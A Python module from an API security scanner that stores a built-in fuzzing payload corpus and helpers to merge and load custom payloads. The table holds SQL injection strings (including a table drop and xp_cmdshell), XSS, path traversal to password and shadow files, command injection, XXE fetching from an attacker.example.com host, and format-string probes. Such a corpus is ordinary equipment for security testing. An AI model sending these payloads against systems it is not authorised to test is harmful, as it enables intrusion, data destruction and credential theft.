"""Fuzzing payload corpus.

The built-in table is read-only and shared by every scan; custom payloads are
layered on top per call without touching it.
"""

from pathlib import Path
from types import MappingProxyType
from typing import Dict, Iterable, List, Mapping, Sequence, Tuple, Union

from apiprobe.config import Payload, PayloadCategory
from apiprobe.errors import UnknownCategoryError
from apiprobe.utils import logger


def _corpus(category: PayloadCategory, values: Sequence[str]) -> Tuple[Payload, ...]:
    return tuple(Payload(category=category, value=v) for v in values)


PAYLOAD_CORPUS: Mapping[PayloadCategory, Tuple[Payload, ...]] = MappingProxyType({
    PayloadCategory.INJECTION: _corpus(PayloadCategory.INJECTION, [
        "' OR '1'='1",
        "'; DROP TABLE users; --",
        "' UNION SELECT NULL--",
        "1' AND 1=1 UNION SELECT username, password FROM users--",
        "1;EXEC xp_cmdshell('dir')",
        "\" OR \"1\"=\"1",
        "1 OR 1=1",
        "admin'--",
    ]),
    PayloadCategory.XSS: _corpus(PayloadCategory.XSS, [
        "<script>alert('xss')</script>",
        "<img src=x onerror=alert(1)>",
        "javascript:alert('xss')",
        "<svg onload=alert(1)>",
        "'><script>alert(1)</script>",
        "<iframe src='javascript:alert(1)'></iframe>",
        "<object data='javascript:alert(1)'></object>",
        "<embed src='javascript:alert(1)'></embed>",
    ]),
    PayloadCategory.TRAVERSAL: _corpus(PayloadCategory.TRAVERSAL, [
        "../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "/etc/passwd",
        "/etc/shadow",
        "/proc/self/environ",
        "....//....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    ]),
    PayloadCategory.COMMAND: _corpus(PayloadCategory.COMMAND, [
        "; id",
        "| id",
        "`id`",
        "$(id)",
        "; ls -la",
        "| cat /etc/passwd",
        "&& whoami",
    ]),
    PayloadCategory.XXE: _corpus(PayloadCategory.XXE, [
        "<?xml version='1.0'?><!DOCTYPE foo [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]><foo>&xxe;</foo>",
        "<?xml version='1.0'?><!DOCTYPE foo [<!ENTITY xxe SYSTEM 'http://attacker.example.com/x.dtd'>]><foo>&xxe;</foo>",
        "<?xml version='1.0'?><!DOCTYPE data [<!ENTITY file SYSTEM 'file:///c:/windows/win.ini'>]><data>&file;</data>",
    ]),
    PayloadCategory.FORMAT_STRING: _corpus(PayloadCategory.FORMAT_STRING, [
        "%s%s%s%s%s%s%s%s%s%s",
        "%x%x%x%x%x%x%x%x%x%x",
        "%n%n%n%n%n%n%n%n%n%n",
        "%p%p%p%p%p%p%p%p%p%p",
        "%d%d%d%d%d%d%d%d%d%d",
    ]),
})


def parse_category(value: Union[str, PayloadCategory]) -> PayloadCategory:
    """Convert a category name, failing fast on unknown names."""
    if isinstance(value, PayloadCategory):
        return value
    try:
        return PayloadCategory(str(value).strip().lower())
    except ValueError:
        raise UnknownCategoryError(str(value)) from None


def parse_categories(values: Iterable[Union[str, PayloadCategory]]) -> List[PayloadCategory]:
    categories: List[PayloadCategory] = []
    for value in values:
        category = parse_category(value)
        if category not in categories:
            categories.append(category)
    return categories


def get_payloads(
    category: Union[str, PayloadCategory],
    custom: Iterable[Payload] = (),
) -> List[Payload]:
    """Built-in payloads for a category followed by matching custom ones."""
    category = parse_category(category)
    payloads = list(PAYLOAD_CORPUS[category])
    seen = {p.value for p in payloads}
    for payload in custom:
        if payload.category == category and payload.value not in seen:
            payloads.append(payload)
            seen.add(payload.value)
    return payloads


def custom_payload(category: Union[str, PayloadCategory], value: str) -> Payload:
    return Payload(category=parse_category(category), value=value, custom=True)


def load_payloads_file(path: Union[str, Path], category: Union[str, PayloadCategory]) -> List[Payload]:
    """Read custom payloads, one per line; blank lines and ``#`` comments are skipped."""
    category = parse_category(category)
    path = Path(path)

    if not path.exists():
        logger.warning(f"Payload file not found: {path}")
        return []

    payloads = []
    with open(path, "r", encoding="utf-8", errors="ignore") as f:
        for line in f:
            line = line.rstrip("\n")
            if not line.strip() or line.lstrip().startswith("#"):
                continue
            payloads.append(Payload(category=category, value=line, custom=True))

    logger.debug(f"Loaded {len(payloads)} {category.value} payloads from {path}")
    return payloads


def corpus_summary() -> Dict[str, int]:
    return {category.value: len(payloads) for category, payloads in PAYLOAD_CORPUS.items()}
